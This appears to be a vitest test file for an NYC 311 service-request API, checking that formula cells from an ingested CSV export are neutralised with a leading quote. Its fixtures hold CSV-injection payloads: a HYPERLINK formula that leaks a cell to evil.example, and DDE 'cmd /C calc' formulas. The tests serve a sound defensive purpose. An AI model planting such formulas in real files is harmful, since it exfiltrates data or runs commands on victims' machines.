import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildSnapshot } from '../../src/ingest/nyc311/build-snapshot.js';
import { SERVICE_REQUEST_COLUMNS, type ServiceRequestRecord } from '../../src/services/requests/store/service-request-store.js';
import { COUNCIL_DISTRICT_FIXTURE } from '../ingest/nyc311/fixture-paths.js';
import { createSqliteFixture, readFixtureRows, type FixtureDatabase } from './support/fixture-database.js';
import { parseCsv } from './support/expected.js';
import { json, startTestApp, type TestApp } from './support/requests-app.js';

/**
 * Safe CSV (docs/requests.md): a text cell that begins with =, +, -, @, TAB or CR is written with a
 * leading ' in CSV pages and exports (OWASP's rule against CSV injection); numbers, dates and ids are
 * written as they are. Tested on an export file crafted with formula cells, through the real
 * ingestion (the snapshot command's buildSnapshot), then the service's CSV answers.
 */

const FORMULAS = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
  command: "+1+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  minus: '-2+3',
  plain: 'Street Condition',
};

/** RFC 4180 field. */
function field(text: string): string {
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/**
 * The hand-written export's first request, repeated with formula cells in its four text columns (one
 * day apart, so that no cleaning rule merges them); a leading TAB before a formula too, which the
 * ingestion trims (the formula after it is then neutralised like the others).
 */
function craftedExport(): string {
  const [header = [], template = []] = parseCsv(readFileSync(COUNCIL_DISTRICT_FIXTURE, 'utf8').replace(/\r?\n/g, '\r\n'));
  const column = (name: string): number => header.indexOf(name);
  const cells: [string, string, string, string][] = [
    [FORMULAS.hyperlink, FORMULAS.command, FORMULAS.at, FORMULAS.minus],
    [FORMULAS.command, FORMULAS.at, FORMULAS.minus, FORMULAS.hyperlink],
    [FORMULAS.at, `\t${FORMULAS.hyperlink}`, FORMULAS.plain, '05 BROOKLYN'],
    [FORMULAS.plain, 'Pothole', 'Street', '06 BROOKLYN'],
  ];
  const records = cells.map(([type, descriptor, location, board], index) => {
    const record = [...template];
    record[column('Unique Key')] = String(9001 + index);
    record[column('Created Date')] = `02/0${index + 1}/2025 08:00:00 AM`;
    record[column('Closed Date')] = `02/0${index + 2}/2025 08:00:00 AM`;
    record[column('Complaint Type')] = type;
    record[column('Descriptor')] = descriptor;
    record[column('Location Type')] = location;
    record[column('Community Board')] = board;
    return record.map(field).join(',');
  });
  return [header.map(field).join(','), ...records].join('\r\n') + '\r\n';
}

/** What a CSV cell must hold for a value of the JSON answer. */
function expectedCell(value: ServiceRequestRecord[keyof ServiceRequestRecord]): string {
  if (value === null) return '';
  if (typeof value === 'string') return /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
  return String(value);
}

function expectCsvMatchesJson(csv: string, rows: readonly ServiceRequestRecord[]): void {
  const [header, ...records] = parseCsv(csv);
  expect(header).toEqual([...SERVICE_REQUEST_COLUMNS]);
  expect(records).toEqual(rows.map((row) => SERVICE_REQUEST_COLUMNS.map((column) => expectedCell(row[column]))));
}

describe('safe CSV: formula cells of an ingested export are neutralised in CSV pages and exports', () => {
  let folder: string;
  let service: TestApp;
  let rows: ServiceRequestRecord[];

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'safe-csv-'));
    const input = join(folder, 'crafted-export.csv');
    writeFileSync(input, craftedExport());
    const database = join(folder, 'snapshot.sqlite');
    await buildSnapshot({ kind: 'file', path: input }, { kind: 'sqlite', path: database });
    service = await startTestApp(database);
    rows = json<{ items: ServiceRequestRecord[] }>(await service.get('/v1/service-requests?limit=1000')).items;
  });
  afterAll(async () => {
    await service.app.close();
    rmSync(folder, { recursive: true, force: true });
  });

  it('the ingested snapshot keeps the formula texts as written (JSON is not changed)', () => {
    const texts = rows.flatMap((row) => [row.complaint_type, row.descriptor, row.location_type, row.community_board]);
    expect(texts).toEqual(expect.arrayContaining([FORMULAS.hyperlink, FORMULAS.command, FORMULAS.at, FORMULAS.minus]));
    // The ingestion trims a leading TAB: what is left is a formula, neutralised below like the others.
    expect(rows.map((row) => row.descriptor)).toContain(FORMULAS.hyperlink);
  });

  it('a CSV page writes each formula cell with a leading quote, and every other cell as the JSON value', async () => {
    const page = await service.get('/v1/service-requests?format=csv&limit=1000');
    expect(page.statusCode).toBe(200);
    expectCsvMatchesJson(page.body, rows);
    const records = parseCsv(page.body).slice(1);
    const cells = records.flatMap((record) => record);
    for (const formula of [FORMULAS.hyperlink, FORMULAS.command, FORMULAS.at, FORMULAS.minus]) {
      expect(cells).toContain(`'${formula}`);
      expect(cells).not.toContain(formula);
    }
    expect(cells).toContain(FORMULAS.plain);
  });

  it('a CSV export writes the same cells as the CSV page', async () => {
    const exported = await service.get('/v1/exports/service-requests?format=csv');
    expect(exported.statusCode).toBe(200);
    expectCsvMatchesJson(exported.body, rows);
    const cells = parseCsv(exported.body).flatMap((record) => record);
    expect(cells).toContain(`'${FORMULAS.hyperlink}`);
    expect(cells).not.toContain(FORMULAS.at);
  });

  it('numbers, dates and ids are untouched: a negative longitude stays a number', async () => {
    const [header = [], first = []] = parseCsv((await service.get('/v1/service-requests?format=csv&limit=1')).body);
    const cellOf = (name: string): string | undefined => first[header.indexOf(name)];
    const row = rows[0]!;
    expect(cellOf('longitude')).toBe(String(row.longitude));
    expect(Number(cellOf('longitude'))).toBeLessThan(0);
    expect(cellOf('id')).toBe(String(row.id));
    expect(cellOf('created_at')).toBe(row.created_at);
    expect(cellOf('council_district')).toBe(String(row.council_district));
  });
});

describe('safe CSV: a leading TAB or CR in a stored text (which the ingestion trims) is neutralised too', () => {
  let fixture: FixtureDatabase;
  let service: TestApp;
  const [first, second, ...others] = readFixtureRows();
  const crafted = [
    { ...first!, descriptor: '\t=1+1', location_type: '\r=2+2' },
    { ...second!, complaint_type: '@cmd', community_board: '-1' },
    ...others,
  ];

  beforeAll(async () => {
    fixture = createSqliteFixture({ rows: crafted });
    service = await startTestApp(fixture.databaseUrl);
  });
  afterAll(async () => {
    await service.app.close();
    await fixture.drop();
  });

  it('CSV pages and exports write a leading quote before a TAB or CR', async () => {
    const rows = json<{ items: ServiceRequestRecord[] }>(await service.get('/v1/service-requests?limit=1000')).items;
    for (const path of ['/v1/service-requests?format=csv&limit=1000', '/v1/exports/service-requests']) {
      const answer = await service.get(path);
      expectCsvMatchesJson(answer.body, rows);
      const cells = parseCsv(answer.body).flatMap((record) => record);
      expect(cells).toEqual(expect.arrayContaining(["'\t=1+1", "'\r=2+2", "'@cmd", "'-1"]));
    }
  });
});
